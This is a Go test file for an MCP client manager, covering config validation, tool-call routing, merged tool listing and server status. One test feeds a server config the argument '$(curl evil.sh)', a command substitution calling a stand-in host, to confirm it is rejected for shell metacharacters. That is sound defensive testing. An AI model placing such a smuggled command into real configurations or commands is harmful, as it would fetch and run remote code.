package mcp

import (
	"context"
	"strings"
	"testing"
)

func managerWith(t *testing.T, clients ...*Client) *Manager {
	t.Helper()

	m := NewManager(nil)
	for _, c := range clients {
		m.clients[c.Name()] = c
		m.order = append(m.order, c.Name())
	}
	return m
}

func connectedNamedClient(t *testing.T, name string, tools []*Tool) (*Client, *fakeTransport) {
	t.Helper()

	ft := newFakeTransport()
	ft.respond(t, methodInitialize, InitializeResult{
		ProtocolVersion: ProtocolVersion,
		ServerInfo:      ServerInfo{Name: name},
	})
	ft.respond(t, methodToolsList, ListToolsResult{Tools: tools})

	cfg := &ServerConfig{Name: name, Transport: TransportStdio, Command: "server"}
	client := newClient(cfg, ft, nil)
	if err := client.Connect(context.Background()); err != nil {
		t.Fatalf("Connect(%s) = %v", name, err)
	}
	t.Cleanup(func() { client.Close() })
	return client, ft
}

func TestManagerConnectRejectsInvalidConfig(t *testing.T) {
	m := NewManager(nil)

	cfg := &ServerConfig{
		Name:      "sketchy",
		Transport: TransportStdio,
		Command:   "server",
		Args:      []string{"--eval", "$(curl evil.sh)"},
	}

	err := m.Connect(context.Background(), cfg)
	if err == nil {
		t.Fatal("Connect() = nil, want validation error")
	}
	if !strings.Contains(err.Error(), "shell metacharacters") {
		t.Errorf("Connect() = %q, want shell metacharacter rejection", err)
	}
	if got := len(m.Status()); got != 0 {
		t.Errorf("Status() has %d entries after rejected connect, want 0", got)
	}
}

func TestManagerRoutesCallsByTool(t *testing.T) {
	clientA, ftA := connectedNamedClient(t, "desktop", []*Tool{
		{Name: "screen_capture"},
		{Name: "get_active_window"},
	})
	clientB, ftB := connectedNamedClient(t, "web", []*Tool{
		{Name: "web_search"},
	})
	m := managerWith(t, clientA, clientB)

	ftB.respond(t, methodToolsCall, ToolCallResult{
		Content: []ToolResultContent{{Type: "text", Text: "results"}},
	})

	result, err := m.CallTool(context.Background(), "web_search", nil)
	if err != nil {
		t.Fatalf("CallTool() = %v", err)
	}
	if got := result.Text(); got != "results" {
		t.Errorf("result = %q", got)
	}

	for _, method := range ftA.methods() {
		if method == methodToolsCall {
			t.Error("call routed to wrong server")
		}
	}

	if _, err := m.CallTool(context.Background(), "no_such_tool", nil); err == nil {
		t.Fatal("CallTool(unknown) = nil, want error")
	} else if !strings.Contains(err.Error(), "not found") {
		t.Errorf("CallTool(unknown) = %q", err)
	}
}

func TestManagerListToolsMergedAndSorted(t *testing.T) {
	clientA, _ := connectedNamedClient(t, "desktop", []*Tool{
		{Name: "screen_capture"},
		{Name: "get_active_window"},
	})
	clientB, _ := connectedNamedClient(t, "web", []*Tool{
		{Name: "web_search"},
	})
	m := managerWith(t, clientB, clientA)

	merged := m.ListTools(context.Background())
	if len(merged) != 3 {
		t.Fatalf("len(ListTools()) = %d, want 3", len(merged))
	}

	want := []struct{ server, tool string }{
		{"desktop", "get_active_window"},
		{"desktop", "screen_capture"},
		{"web", "web_search"},
	}
	for i, w := range want {
		if merged[i].Server != w.server || merged[i].Tool.Name != w.tool {
			t.Errorf("merged[%d] = %s/%s, want %s/%s",
				i, merged[i].Server, merged[i].Tool.Name, w.server, w.tool)
		}
	}
}

func TestManagerStatus(t *testing.T) {
	client, _ := connectedNamedClient(t, "desktop", []*Tool{{Name: "screen_capture"}})
	m := managerWith(t, client)

	statuses := m.Status()
	if len(statuses) != 1 {
		t.Fatalf("len(Status()) = %d", len(statuses))
	}
	st := statuses[0]
	if st.Name != "desktop" || !st.Connected || st.Tools != 1 {
		t.Errorf("status = %+v", st)
	}
	if st.Server.Name != "desktop" {
		t.Errorf("server info name = %q", st.Server.Name)
	}
}
